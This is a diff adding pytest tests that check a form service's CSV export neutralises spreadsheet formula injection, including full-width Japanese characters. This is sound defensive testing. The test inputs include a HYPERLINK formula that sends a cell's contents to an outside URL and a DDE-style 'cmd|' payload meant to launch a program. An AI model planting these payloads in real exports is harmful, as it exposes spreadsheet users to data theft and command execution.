@@ -6,6 +6,7 @@ import csv
 import io
 from datetime import date
 
+import pytest
 from sqlalchemy import select
 
 from formsvc.forms.catalog import published
@@ -115,3 +116,56 @@ def test_csv_cells_are_single_lines_without_platform_characters():
     assert export.clean("髙橋　ｶﾀｶﾅ") == "髙橋　ｶﾀｶﾅ"  # everything else is kept as typed
     assert export.clean(None) == ""
 
+
+
+# --- formula injection (OWASP "CSV Injection") -----------------------------------------------
+
+HYPERLINK = '=HYPERLINK("https://example.com/?"&A2,"詳細")'
+# A procedure whose labels and answers a spreadsheet would run as formulas, and a number question
+# whose answers may be negative (amounts): such plain numbers must stay readable as numbers.
+FORMULA_SAMPLE = (
+    REVIEW_SAMPLE.replace("label: 連絡事項", "label: '@連絡事項'")
+    .replace("      - {type: number, id: copies, label: 通数, min: 1, max: 5, unit: 通}\n",
+             "      - {type: number, id: copies, label: 通数, min: 1, max: 5, unit: 通}\n"
+             "      - {type: number, id: adjustment, label: '-調整額', min: -100000, max: 100000,"
+             " required: false}\n")
+)
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote(app):
+    publish(app, FORMULA_SAMPLE, "review.yaml")
+    first = apply(app, "review-permit", via="agent", agent_name="+SUM(1,2)", proxy_letter=True,
+                  note=HYPERLINK, adjustment=-1500)
+    second = apply(app, "review-permit", via="agent", agent_name="@cmd", proxy_letter=True,
+                   note="  =1+1", adjustment=-3)
+    third = apply(app, "review-permit", via="agent", agent_name="-2+3+cmd|'/C calc'", proxy_letter=True,
+                  note="\t=1+1", adjustment=2)
+    exporter = staff_client(app, "shinsa", "reviewer")
+    content = exporter.get("/staff/queue/export.csv?form=review-permit&status=all&bom=1").data
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+    headers, by_number = rows[0], {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+
+    # Headers are cells too: a label is written by whoever edits the procedure.
+    assert "'@連絡事項" in headers and "'-調整額" in headers
+    assert "@連絡事項" not in headers and "-調整額" not in headers
+    assert by_number[first]["'@連絡事項"] == "'" + HYPERLINK
+    assert by_number[first]["代理人の氏名"] == "'+SUM(1,2)"
+    assert by_number[second]["代理人の氏名"] == "'@cmd"
+    # Leading spaces and tabs are trimmed from cells, so what follows them is checked as the first character.
+    assert by_number[second]["'@連絡事項"] == "'=1+1"
+    assert by_number[third]["'@連絡事項"] == "'=1+1"
+    assert by_number[third]["代理人の氏名"] == "'-2+3+cmd|'/C calc'"
+    # Plain numbers, negative ones included, are left as they are.
+    assert [by_number[number]["'-調整額"] for number in (first, second, third)] == ["-1500", "-3", "2"]
+    assert by_number[first]["手数料"].isdigit()
+
+
+@pytest.mark.parametrize(("text", "written"), [
+    ("=1+1", "'=1+1"), ("+81", "'+81"), ("-", "'-"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    # Full-width forms too: Japanese Excel turns ＝１＋１ typed into a cell into a formula.
+    ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
+    ("-1500", "-1500"), ("-3.5", "-3.5"), ("1500", "1500"), ("", ""), ("佐藤 =1", "佐藤 =1"),
+    ("-1e5", "'-1e5"), ("-1,500", "'-1,500"), ("- 1", "'- 1"),
+])
+def test_a_cell_is_neutralised_only_when_it_could_start_a_formula(text, written):
+    assert export.formula_safe(text) == written
